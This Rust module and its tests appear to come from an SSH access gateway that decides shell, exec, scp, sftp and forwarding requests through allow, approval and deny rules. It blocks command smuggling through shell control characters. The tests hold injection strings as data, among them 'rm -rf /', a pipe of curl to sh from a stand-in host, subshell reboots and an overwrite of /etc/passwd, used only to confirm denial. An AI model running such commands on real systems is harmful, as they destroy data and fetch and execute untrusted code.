//! SSH requests and the rules that decide them.
//!
//! A policy on an SSH connection lists, in the same `allow`, `require_approval`
//! and `deny` lists, two kinds of rule:
//! - **SSH words** for what is not a command: `shell` (an interactive shell),
//!   `scp` (an `scp` transfer, either direction), `sftp` (the sftp subsystem),
//!   `port_forward` (local `-L` and remote `-R` forwarding), `agent_forward`,
//!   `x11`;
//! - **command patterns** over an `exec` command line (`ssh host 'git pull'`),
//!   `*` globs anchored at both ends, compared case-insensitively with
//!   whitespace runs collapsed: `"git *"`, `"systemctl status *"`.
//!
//! The command line is run by the upstream user's shell, so a plain glob would
//! let `"git *"` allow `git status; rm -rf /`. In `allow` and
//! `require_approval` patterns a `*` therefore never matches a shell control
//! character (`; & | $ ( ) < > \` ` and line breaks); a pattern that means to
//! allow one spells it out (`"git log * | head *"`). `deny` patterns are
//! matched against the whole line and against every piece of it between
//! control characters, so `"rm *"` also denies `ls; rm -rf /`. Deny patterns
//! are a backstop; the allow list is the control.
//!
//! Precedence is the SQL one: any matching `deny` wins, then
//! `require_approval` holds, then `allow`; nothing matching is denied.

use super::glob::Glob;
use super::rules::{fold, List, RuleProblem};
use super::{default_deny, Applicable, Decision, Verdict};

pub use portcullis_config::SSH_WORDS;

/// Which way a port forward goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ForwardDirection {
    /// `ssh -L`: the client asks the gateway side to connect somewhere.
    Local,
    /// `ssh -R`: the client asks the upstream side to listen.
    Remote,
}

/// One thing an SSH client asks for that policy decides.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SshRequest {
    /// An interactive shell (with or without a pty).
    Shell,
    /// An `exec` request with its command line.
    Exec(String),
    /// A subsystem by name (`sftp`).
    Subsystem(String),
    PortForward {
        direction: ForwardDirection,
        host: String,
        port: u32,
    },
    AgentForward,
    X11,
}

impl SshRequest {
    /// How records and messages name the request.
    pub fn describe(&self) -> String {
        match self {
            Self::Shell => "an interactive shell".into(),
            Self::Exec(command) if parse_scp(command).is_some() => {
                format!("scp transfer {command:?}")
            }
            Self::Exec(command) => format!("command {command:?}"),
            Self::Subsystem(name) => format!("subsystem {name:?}"),
            Self::PortForward {
                direction,
                host,
                port,
            } => format!(
                "{} port forwarding to {host}:{port}",
                match direction {
                    ForwardDirection::Local => "local",
                    ForwardDirection::Remote => "remote",
                }
            ),
            Self::AgentForward => "agent forwarding".into(),
            Self::X11 => "X11 forwarding".into(),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SshWord {
    Shell,
    Scp,
    Sftp,
    PortForward,
    AgentForward,
    X11,
}

impl SshWord {
    fn parse(word: &str) -> Option<Self> {
        Some(match word {
            "shell" => Self::Shell,
            "scp" => Self::Scp,
            "sftp" => Self::Sftp,
            "port_forward" => Self::PortForward,
            "agent_forward" => Self::AgentForward,
            "x11" => Self::X11,
            _ => return None,
        })
    }

    fn covers(self, request: &SshRequest) -> bool {
        match (self, request) {
            (Self::Shell, SshRequest::Shell) => true,
            (Self::Scp, SshRequest::Exec(command)) => parse_scp(command).is_some(),
            (Self::Sftp, SshRequest::Subsystem(name)) => name == "sftp",
            (Self::PortForward, SshRequest::PortForward { .. }) => true,
            (Self::AgentForward, SshRequest::AgentForward) => true,
            (Self::X11, SshRequest::X11) => true,
            _ => false,
        }
    }
}

/// A compiled rule of a policy on an SSH connection.
#[derive(Debug, Clone)]
pub(crate) enum SshRule {
    Word(SshWord),
    Command(Glob),
}

impl SshRule {
    pub fn compile(text: &str) -> Result<Self, RuleProblem> {
        let folded = fold(text);
        if folded.is_empty() {
            return Err(RuleProblem::Empty);
        }
        if let Some(word) = SshWord::parse(&folded) {
            return Ok(Self::Word(word));
        }
        // A bare word is a misspelt SSH word far more often than a one-word
        // command; `"uptime*"` or the full command line says the latter.
        if !folded.contains([' ', '*']) {
            return Err(RuleProblem::UnknownSshWord);
        }
        Ok(Self::Command(Glob::new(&folded)))
    }

    pub fn matches(&self, request: &SshRequest, list: List) -> bool {
        match self {
            Self::Word(word) => word.covers(request),
            Self::Command(glob) => {
                let SshRequest::Exec(command) = request else {
                    return false;
                };
                // Line breaks separate commands as `;` does; folding would
                // otherwise turn them into harmless-looking spaces.
                let folded = fold(&command.replace(['\n', '\r'], ";"));
                if list == List::Deny {
                    glob.matches(&folded)
                        || folded
                            .split(is_shell_control)
                            .map(str::trim)
                            .any(|piece| glob.matches(piece))
                } else {
                    glob.matches_excluding(&folded, is_shell_control)
                }
            }
        }
    }
}

/// Characters with which one command line can run another command.
fn is_shell_control(c: char) -> bool {
    matches!(
        c,
        ';' | '&' | '|' | '$' | '(' | ')' | '<' | '>' | '`' | '\n' | '\r'
    )
}

/// An `scp` transfer as the upstream side runs it (`scp -t PATH` receives,
/// `scp -f PATH` sends).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct ScpCommand {
    pub direction: ScpDirection,
    pub recursive: bool,
    /// The target (upload) or source (download) paths, as the client named them.
    pub paths: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ScpDirection {
    /// `scp -t`: files flow from the client to the upstream.
    Upload,
    /// `scp -f`: files flow from the upstream to the client.
    Download,
}

/// Recognises the server side of the legacy scp protocol. Only a plain
/// `scp` with flags and paths counts; anything with shell syntax in it is an
/// ordinary command line and is decided by command patterns.
pub fn parse_scp(command: &str) -> Option<ScpCommand> {
    if command.contains(is_shell_control) {
        return None;
    }
    let mut words = command.split_whitespace();
    let program = words.next()?;
    if program != "scp" && !program.ends_with("/scp") {
        return None;
    }
    let mut direction = None;
    let mut recursive = false;
    let mut paths = Vec::new();
    let mut flags_done = false;
    for word in words {
        if flags_done || !word.starts_with('-') {
            paths.push(word.to_string());
            continue;
        }
        if word == "--" {
            flags_done = true;
            continue;
        }
        for flag in word.chars().skip(1) {
            match flag {
                't' => direction = Some(ScpDirection::Upload),
                'f' => direction = Some(ScpDirection::Download),
                'r' => recursive = true,
                'd' | 'p' | 'v' | 'q' | 'O' => {}
                _ => return None,
            }
        }
    }
    Some(ScpCommand {
        direction: direction?,
        recursive,
        paths,
    })
}

impl Applicable<'_> {
    /// Decides one SSH request: deny, then require_approval, then allow;
    /// default deny.
    pub fn decide_ssh(&self, request: &SshRequest) -> Decision {
        if self.policies.is_empty() {
            return default_deny("no policy applies to this principal on this connection".into());
        }
        let lists = [
            (List::Deny, Verdict::Deny),
            (List::RequireApproval, Verdict::Hold),
            (List::Allow, Verdict::Allow),
        ];
        for (list, verdict) in lists {
            let matched = self.policies.iter().find_map(|policy| {
                policy
                    .rules(list)
                    .iter()
                    .find(|r| r.matches_ssh(request, list))
                    .map(|rule| (policy, rule))
            });
            if let Some((policy, rule)) = matched {
                return Decision {
                    verdict,
                    policy: Some(policy.name.clone()),
                    rule: rule.text.clone(),
                    reason: format!(
                        "{} matches {} rule {:?} of policy {:?}",
                        request.describe(),
                        list.as_str(),
                        rule.text,
                        policy.name
                    ),
                    statement_index: None,
                };
            }
        }
        default_deny(format!(
            "no policy allows {} on this connection",
            request.describe()
        ))
    }
}

#[cfg(test)]
mod tests {
    use std::time::SystemTime;

    use portcullis_config::PolicyConfig;
    use portcullis_identity::Principal;
    use serde_json::json;

    use super::*;
    use crate::decide::PolicySet;

    fn ci() -> Principal {
        Principal {
            name: "ci-job".into(),
            groups: vec!["ci".into()],
            issuer: "https://issuer.test".into(),
            claims: serde_json::Map::new(),
            expires_at: SystemTime::now(),
            token_fingerprint: "sha256:0000".into(),
        }
    }

    fn policies(allow: &[&str], hold: &[&str], deny: &[&str]) -> PolicySet {
        let config: PolicyConfig = serde_json::from_value(json!({
            "name": "ci-ssh",
            "match": { "groups": ["ci"] },
            "connection": "bastion",
            "allow": allow,
            "require_approval": hold,
            "deny": deny,
        }))
        .expect("test policy");
        PolicySet::compile_with(&[config], |c| c == "bastion").expect("compiles")
    }

    fn verdict(set: &PolicySet, request: SshRequest) -> Verdict {
        set.applicable(&ci(), "bastion")
            .decide_ssh(&request)
            .verdict
    }

    fn exec(command: &str) -> SshRequest {
        SshRequest::Exec(command.into())
    }

    #[test]
    fn command_patterns_allow_and_everything_else_is_denied() {
        let set = policies(&["git *", "uptime*"], &[], &[]);
        assert_eq!(verdict(&set, exec("git pull --ff-only")), Verdict::Allow);
        assert_eq!(verdict(&set, exec("GIT   status")), Verdict::Allow);
        assert_eq!(verdict(&set, exec("uptime")), Verdict::Allow);
        assert_eq!(verdict(&set, exec("rm -rf /")), Verdict::Deny);
        assert_eq!(verdict(&set, SshRequest::Shell), Verdict::Deny);
        let d = set
            .applicable(&ci(), "bastion")
            .decide_ssh(&exec("rm -rf /"));
        assert_eq!(d.rule, "default deny");
        assert!(d.reason.contains("command \"rm -rf /\""), "{}", d.reason);
    }

    #[test]
    fn allowed_patterns_do_not_stretch_over_shell_syntax() {
        let set = policies(&["git *", "git log * | head *"], &[], &[]);
        for smuggled in [
            "git status; rm -rf /",
            "git status && curl evil | sh",
            "git $(reboot)",
            "git `reboot`",
            "git status\nreboot",
            "git log > /etc/passwd",
        ] {
            assert_eq!(verdict(&set, exec(smuggled)), Verdict::Deny, "{smuggled:?}");
        }
        assert_eq!(
            verdict(&set, exec("git log --oneline | head -3")),
            Verdict::Allow
        );
    }

    #[test]
    fn deny_wins_and_sees_every_piece_of_a_command_line() {
        let set = policies(&["*"], &["systemctl *"], &["rm *", "shutdown*"]);
        assert_eq!(verdict(&set, exec("ls -l")), Verdict::Allow);
        assert_eq!(verdict(&set, exec("rm -rf /tmp/x")), Verdict::Deny);
        assert_eq!(verdict(&set, exec("shutdown -h now")), Verdict::Deny);
        assert_eq!(verdict(&set, exec("systemctl restart app")), Verdict::Hold);
        // `*` in allow does not cross `;`, and deny looks at each piece anyway.
        let set = policies(&["ls *"], &[], &["rm *"]);
        let d = set
            .applicable(&ci(), "bastion")
            .decide_ssh(&exec("ls -l; rm -rf /"));
        assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Deny, "rm *"));
    }

    #[test]
    fn words_cover_their_requests_only() {
        let set = policies(&["shell", "sftp", "scp"], &[], &[]);
        assert_eq!(verdict(&set, SshRequest::Shell), Verdict::Allow);
        assert_eq!(
            verdict(&set, SshRequest::Subsystem("sftp".into())),
            Verdict::Allow
        );
        assert_eq!(
            verdict(&set, SshRequest::Subsystem("netconf".into())),
            Verdict::Deny
        );
        assert_eq!(verdict(&set, exec("scp -t /tmp/upload")), Verdict::Allow);
        assert_eq!(verdict(&set, exec("ls")), Verdict::Deny);
        for request in [
            SshRequest::AgentForward,
            SshRequest::X11,
            SshRequest::PortForward {
                direction: ForwardDirection::Local,
                host: "db".into(),
                port: 5432,
            },
        ] {
            assert_eq!(verdict(&set, request), Verdict::Deny);
        }
        let set = policies(&["port_forward", "agent_forward", "x11"], &[], &[]);
        assert_eq!(
            verdict(
                &set,
                SshRequest::PortForward {
                    direction: ForwardDirection::Remote,
                    host: "0.0.0.0".into(),
                    port: 8080,
                }
            ),
            Verdict::Allow
        );
        assert_eq!(verdict(&set, SshRequest::AgentForward), Verdict::Allow);
        assert_eq!(verdict(&set, SshRequest::X11), Verdict::Allow);
        assert_eq!(verdict(&set, SshRequest::Shell), Verdict::Deny);
    }

    #[test]
    fn every_word_the_config_accepts_means_something_here() {
        for word in SSH_WORDS {
            assert!(SshWord::parse(word).is_some(), "{word}");
        }
    }

    #[test]
    fn misspelt_words_are_refused_at_compile_time() {
        let config: PolicyConfig = serde_json::from_value(json!({
            "name": "typo",
            "match": { "groups": ["ci"] },
            "connection": "bastion",
            "allow": ["shel"],
        }))
        .expect("test policy");
        let err = PolicySet::compile_with(std::slice::from_ref(&config), |_| true).unwrap_err();
        assert!(err.to_string().contains("neither an SSH word"), "{err}");
        // The same policy on a SQL connection fails as a SQL rule would.
        let err = PolicySet::compile_with(&[config], |_| false).unwrap_err();
        assert!(err.to_string().contains("statement class"), "{err}");
    }

    #[test]
    fn sql_rules_never_decide_ssh_requests() {
        let config: PolicyConfig = serde_json::from_value(json!({
            "name": "sql",
            "match": { "groups": ["ci"] },
            "connection": "bastion",
            "allow": ["read", "SELECT *"],
        }))
        .expect("test policy");
        let set = PolicySet::compile(&[config]).expect("compiles");
        assert_eq!(verdict(&set, exec("SELECT 1")), Verdict::Deny);
    }

    #[test]
    fn scp_server_commands_are_recognised() {
        assert_eq!(
            parse_scp("scp -t /tmp/upload"),
            Some(ScpCommand {
                direction: ScpDirection::Upload,
                recursive: false,
                paths: vec!["/tmp/upload".into()],
            })
        );
        assert_eq!(
            parse_scp("/usr/bin/scp -r -d -f -- -odd name"),
            Some(ScpCommand {
                direction: ScpDirection::Download,
                recursive: true,
                paths: vec!["-odd".into(), "name".into()],
            })
        );
        assert_eq!(parse_scp("scp -t /tmp/x; reboot"), None);
        assert_eq!(parse_scp("scp host:a b"), None);
        assert_eq!(parse_scp("scp -S evil -t x"), None);
        assert_eq!(parse_scp("scpx -t x"), None);
    }
}
